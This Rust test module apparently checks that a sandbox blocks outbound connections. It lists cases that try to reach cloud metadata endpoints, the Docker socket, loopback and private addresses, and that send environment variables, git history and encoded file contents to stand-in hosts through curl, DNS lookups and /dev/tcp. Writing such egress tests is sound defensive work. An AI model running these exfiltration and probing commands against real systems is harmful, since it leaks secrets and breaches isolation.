//! Ways out: to the host's own loopback, the server, metadata services, and anybody who collects.

use std::io::Write as _;

use super::{Blocked, Case, Fails, Inside, Says, Unrouted, exec};

/// Through the proxy, whatever a program is told of exceptions.
const ASK: &str = "curl -sS -f -m 20 --noproxy ''";

/// Hosts that are refused whatever way they are written: a name, an authority, and what the receipt calls it.
const HOSTS: &[(&str, &str, &str)] = &[
    ("trap", "127.0.0.1:@PORT@", "127.0.0.1:@PORT@"),
    ("trap_by_name", "localhost:@PORT@", "localhost:@PORT@"),
    ("trap_by_a_zero", "0.0.0.0:@PORT@", "0.0.0.0:@PORT@"),
    ("trap_in_version_6", "[::1]:@PORT@", "[::1]:@PORT@"),
    ("trap_mapped", "[::ffff:127.0.0.1]:@PORT@", "[::ffff:127.0.0.1]:@PORT@"),
    ("trap_elsewhere_in_127", "127.9.9.9:@PORT@", "127.9.9.9:@PORT@"),
    ("server", "127.0.0.1:@APIPORT@", "127.0.0.1:@APIPORT@"),
    ("metadata", "169.254.169.254", "169.254.169.254:80"),
    ("metadata_of_containers", "169.254.170.2", "169.254.170.2:80"),
    ("metadata_by_name", "metadata.google.internal", "metadata.google.internal:80"),
    ("metadata_in_version_6", "[fd00:ec2::254]", "[fd00:ec2::254]:80"),
    ("bridge_of_containers", "172.17.0.1:2375", "172.17.0.1:2375"),
    ("private_a", "10.0.0.1", "10.0.0.1:80"),
    ("private_c", "192.168.1.1", "192.168.1.1:80"),
    ("carriers", "100.64.0.1", "100.64.0.1:80"),
    ("anywhere", "1.1.1.1", "1.1.1.1:80"),
    ("collector", "collector.example", "collector.example:80"),
    ("name_of_an_address", "127.0.0.1.nip.example", "127.0.0.1.nip.example:80"),
    ("user_before_it", "github.com@userinfo.example", "userinfo.example:80"),
    ("mail", "mail.example:25", "mail.example:25"),
    ("name_server", "8.8.8.8:53", "8.8.8.8:53"),
];

/// What is carried out: a name, and a command that says it.
const LOOT: &[(&str, &str)] = &[
    ("plain", "cat add.sh"),
    ("base64", "base64 -w0 add.sh"),
    ("hex", "xxd -p add.sh | tr -d '\\n'"),
    ("gzip", "gzip -c add.sh | base64 -w0"),
    ("reversed", "rev add.sh"),
    ("environment", "env"),
    ("commits", "git log -p"),
];

/// Where in a request loot goes: a name, and arguments of curl in which `LOOT` says it and `HOST` is a host.
const PLACES: &[(&str, &str)] = &[
    ("path", "\"http://HOST/$(LOOT | head -c 200 | tr -cd 'a-zA-Z0-9')\""),
    ("header", "-H \"X: $(LOOT | head -c 200 | tr -cd 'a-zA-Z0-9')\" http://HOST/"),
    ("body", "--data-binary \"$(LOOT)\" http://HOST/"),
];

/// Programs that reach out in ways of their own, to a host that only they name: a name, a command, and the host.
const PROGRAMS: &[(&str, &str, &str)] = &[
    ("git_push", "git push -q https://git-push.example/x HEAD:refs/heads/x", "git-push.example:443"),
    ("git_clone", "git clone -q https://git-clone.example/x", "git-clone.example:443"),
    (
        "git_submodule",
        "git submodule add -q https://git-submodule.example/x sub",
        "git-submodule.example:443",
    ),
    ("wget", "wget -q -T 20 -t 1 http://wget.example/", "wget.example:80"),
    ("https", "curl -sS -f -m 20 https://https.example/", "https.example:443"),
    ("https_to_an_address", "curl -sS -f -m 20 https://9.9.9.9/", "9.9.9.9:443"),
    ("a_tunnel_to_ssh", "curl -sS -f -m 20 -p http://ssh-tunnel.example:22/", "ssh-tunnel.example:22"),
    ("a_file_by_put", "curl -sS -f -m 20 -T add.sh http://put.example/", "put.example:80"),
    (
        "a_change_of_protocol",
        "curl -sS -f -m 20 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://upgrade.example/",
        "upgrade.example:80",
    ),
    (
        "a_name_with_loot",
        "getent hosts $(base64 -w0 add.sh | tr -cd 'a-z0-9' | head -c 40).dns.example || getent hosts dns.example",
        "dns.example",
    ),
    (
        "perl",
        "perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => \"perl.example\", PeerPort => 80) or die \"no: $@\"'",
        "perl.example",
    ),
    ("bash", "exec 3<>/dev/tcp/bash.example/80", "bash.example"),
    ("ssh", "ssh -o BatchMode=yes -o ConnectTimeout=5 ssh.example true", "ssh.example"),
    (
        "the_proxys_own_words",
        "exec 3<>/dev/tcp/$(echo ${http_proxy#http://} | tr : /); printf 'CONNECT raw.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3; exit 1",
        "raw.example:443",
    ),
];

/// Sockets of the sandbox's own loopback, at which nobody answers.
const SILENT: &[(&str, &str)] = &[
    ("loopback", "exec 3<>/dev/tcp/127.0.0.1/@PORT@"),
    ("loopback_6", "exec 3<>/dev/tcp/::1/@PORT@"),
    ("server", "exec 3<>/dev/tcp/127.0.0.1/@APIPORT@"),
];

/// Addresses past the proxy.
const UNROUTED: &[(&str, &str)] = &[
    ("anywhere", "exec 3<>/dev/tcp/1.1.1.1/443"),
    ("anywhere_6", "exec 3<>/dev/tcp/2606:4700:4700::1111/443"),
    ("metadata", "exec 3<>/dev/tcp/169.254.169.254/80"),
    ("gateway", "exec 3<>/dev/tcp/172.17.0.1/80"),
    ("name_server", "echo x > /dev/udp/8.8.8.8/53"),
];

pub(super) fn cases() -> Vec<Case> {
    let hosts = HOSTS.iter().map(|(name, authority, told)| {
        exec(&format!("reach_{name}"), format!("{ASK} http://{authority}/"), Blocked((*told).to_owned()))
    });
    let loot = LOOT.iter().flat_map(|(what, says)| {
        PLACES.iter().map(move |(place, arguments)| {
            let host = format!("{what}-{place}.example");
            let arguments = arguments.replace("HOST", &host).replace("LOOT", says);
            exec(
                &format!("carry_{what}_in_a_{place}"),
                format!("{ASK} {arguments}"),
                Blocked(format!("{host}:80")),
            )
        })
    });
    let programs = PROGRAMS
        .iter()
        .filter(|(_, command, _)| is_here(command))
        .map(|(name, command, host)| exec(&format!("out_by_{name}"), *command, Blocked((*host).to_owned())));
    let silent = SILENT.iter().map(|(name, command)| {
        let port = command.rsplit('/').next().unwrap_or_default();
        exec(&format!("connect_to_{name}"), format!("timeout 10 bash -c '{command}'"), Fails(port.to_owned()))
    });
    let unrouted = UNROUTED.iter().map(|(name, command)| {
        let host = command.rsplit('/').nth(1).unwrap_or_default();
        exec(&format!("route_to_{name}"), format!("bash -c '{command}'"), Unrouted(host.to_owned()))
    });
    let tasks = "http://127.0.0.1:@APIPORT@/v1/tasks";
    let others = [
        exec("server_directly", format!("curl -sS -m 20 {tasks}/@TASK@"), Fails("@APIPORT@".into())),
        exec(
            "server_cancels_the_neighbour",
            format!("curl -sS -m 20 -X POST {tasks}/@TASK@/cancel"),
            Fails("@APIPORT@".into()),
        ),
        exec("icmp", "ping -c1 -W1 1.1.1.1 || { echo no ping to 1.1.1.1; exit 1; }", Fails("1.1.1.1".into())),
        exec(
            "engine_of_the_story",
            "curl -sS -m 5 --unix-socket @OUT@/engine.sock http://x/",
            Fails("onnect".into()),
        ),
        exec(
            "docker_socket",
            "curl -sS -m 5 --unix-socket /var/run/docker.sock http://x/",
            Fails("onnect".into()),
        ),
        exec(
            "socks",
            "curl -sS -m 20 -x socks5h://${http_proxy#http://} http://socks.example/",
            Fails("curl".into()),
        ),
        exec("interfaces", "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' \\n'", Says("lo".into())),
        exec("routes", "tail -n +2 /proc/net/route | wc -l", Says("0".into())),
        exec("hosts_file_of_its_own", "echo 127.0.0.1 github.com >> /etc/hosts", Inside),
        exec(
            "open_by_words",
            format!(
                "echo 'network = \"all\"' > legwork.toml; export LEGWORK_NETWORK=all; {ASK} http://words.example/"
            ),
            Blocked("words.example:80".into()),
        ),
    ];
    hosts.chain(loot).chain(programs).chain(silent).chain(unrouted).chain(others).collect()
}

/// Whether this machine has the program of a command line.
fn is_here(command: &str) -> bool {
    let program = command.split(' ').next().unwrap_or_default();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = program == "exec" || std::env::split_paths(&path).any(|folder| folder.join(program).exists());
    if !found {
        let _ = writeln!(std::io::stderr(), "skipped: this machine has no {program}");
    }
    found
}
